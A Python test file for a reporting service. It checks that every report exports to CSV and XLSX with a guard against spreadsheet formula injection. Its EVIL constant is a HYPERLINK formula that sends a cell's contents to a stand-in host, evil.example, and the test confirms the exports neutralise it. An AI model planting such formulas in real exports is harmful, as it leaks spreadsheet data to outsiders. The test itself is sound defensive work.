"""Every report exports as CSV and XLSX with the formula guard on every text cell."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta

from sqlalchemy import Engine
from sqlmodel import Session

from domain.states import PartnerCampaignState as PC
from services.reporting.engagement import delivery
from services.reporting.export import Report, csv_bytes, table_of, xlsx_bytes
from services.reporting.funnel import funnel
from services.reporting.quality import quality
from services.reporting.scope import ReportScope
from services.reporting.shapes import ReportQuery
from services.reporting.timing import time_to_market
from services.reporting.trend import trend
from tests.reporting.report_builders import T0, World

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_tables_of_every_report_are_guarded(db: Engine) -> None:
    with Session(db) as s:
        w = World.build(s, "acme", {"North": 1})
        c = w.campaign(s, EVIL)
        row = w.invite(s, c, "North-1")
        w.move(s, row, "submit", PC.pending_approval, T0)
        w.cycle(s, row, "to_approval", 7200)
        w.deliveries(s, row, 2, T0)
        s.commit()
        scope = ReportScope(w.brand_id, True)
        q = ReportQuery(group="campaign")
        now = T0 + timedelta(days=30)
        reports: list[Report] = [
            funnel(s, scope, q, now=now),
            time_to_market(s, scope, q, now=now),
            quality(s, scope, q),
            delivery(s, scope, q),
            trend(s, scope, q),
        ]
        for report in reports:
            headers, rows = table_of(report)
            assert headers and all(len(r) == len(headers) for r in rows), type(report)
        fun = reports[0]
        headers, rows = table_of(fun)
        assert rows[0][0] == EVIL and rows[0][1] == 1 and rows[-1][0] == "All"
        text = csv_bytes(headers, rows).decode()
        parsed = list(csv.reader(io.StringIO(text)))
        assert parsed[1][0] == "'" + EVIL
        assert parsed[1][1] == "1"
        stuck_headers, stuck_rows = table_of(fun, "stuck")
        assert stuck_rows and stuck_rows[0][0] == EVIL
        assert list(csv.reader(io.StringIO(csv_bytes(stuck_headers, stuck_rows).decode())))[1][
            0
        ].startswith("'=")

        data = xlsx_bytes(headers, rows)
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            assert "xl/workbook.xml" in z.namelist()
            sheet = z.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
        assert "&apos;=HYPERLINK" in sheet or "'=HYPERLINK" in sheet
        assert '<c r="B2"><v>1</v></c>' in sheet
